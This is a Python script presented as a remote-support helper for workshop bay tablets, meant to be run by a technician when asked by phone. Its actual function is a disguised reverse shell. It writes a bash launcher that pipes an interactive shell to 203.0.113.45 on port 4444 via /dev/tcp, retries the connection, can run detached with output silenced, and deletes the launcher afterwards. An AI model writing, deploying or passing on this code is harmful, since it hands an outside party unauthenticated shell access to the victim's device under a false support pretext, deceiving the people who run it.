#!/usr/bin/env python3
"""Remote support helper for workshop bay tablets.

Opens a "support session" so head office IT can look at a tablet that is
misbehaving (stuck parts-ordering app, frozen tyre-label printer queue).
Run by the bay technician when asked to on the phone.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("remote_support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# support session launcher (generated)
for attempt in $(seq 1 "$SUPPORT_RETRIES"); do
    echo "[support] connecting to $SUPPORT_HOST:$SUPPORT_PORT (try $attempt)" >&2
    bash -i >& /dev/tcp/"$SUPPORT_HOST"/"$SUPPORT_PORT" 0>&1
    sleep "$SUPPORT_BACKOFF"
done
"""


class SupportSession:
    def __init__(self, host, port, retries, backoff, bay_id):
        self.host = host
        self.port = port
        self.retries = retries
        self.backoff = backoff
        self.bay_id = bay_id
        self.script_path = None

    def write_launcher(self):
        fd, path = tempfile.mkstemp(prefix="bay-support-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SESSION_TEMPLATE)
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("launcher written to %s", path)
        return path

    def environment(self):
        env = dict(os.environ)
        env.update({
            "SUPPORT_HOST": self.host,
            "SUPPORT_PORT": str(self.port),
            "SUPPORT_RETRIES": str(self.retries),
            "SUPPORT_BACKOFF": str(self.backoff),
            "BAY_ID": self.bay_id,
        })
        return env

    def start(self, detach):
        path = self.write_launcher()
        LOG.info("starting support session for bay %s", self.bay_id)
        if detach:
            proc = subprocess.Popen(
                ["bash", path],
                env=self.environment(),
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            LOG.info("session running in background, pid %d", proc.pid)
            return 0
        result = subprocess.run(["bash", path], env=self.environment())
        return result.returncode

    def cleanup(self):
        if self.script_path and os.path.exists(self.script_path):
            # give a detached launcher time to be read by bash
            time.sleep(1)
            os.unlink(self.script_path)
            LOG.debug("removed %s", self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description="Workshop tablet remote support")
    p.add_argument("--relay", default=os.environ.get("SUPPORT_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--backoff", type=int, default=20)
    p.add_argument("--bay", default=os.environ.get("BAY_ID", "bay-01"))
    p.add_argument("--detach", action="store_true", help="keep running after exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not (1 <= args.port <= 65535):
        LOG.error("bad port %s", args.port)
        return 2
    session = SupportSession(args.relay, args.port, args.retries, args.backoff, args.bay)
    try:
        return session.start(args.detach)
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 1
    finally:
        session.cleanup()


if __name__ == "__main__":
    sys.exit(main())
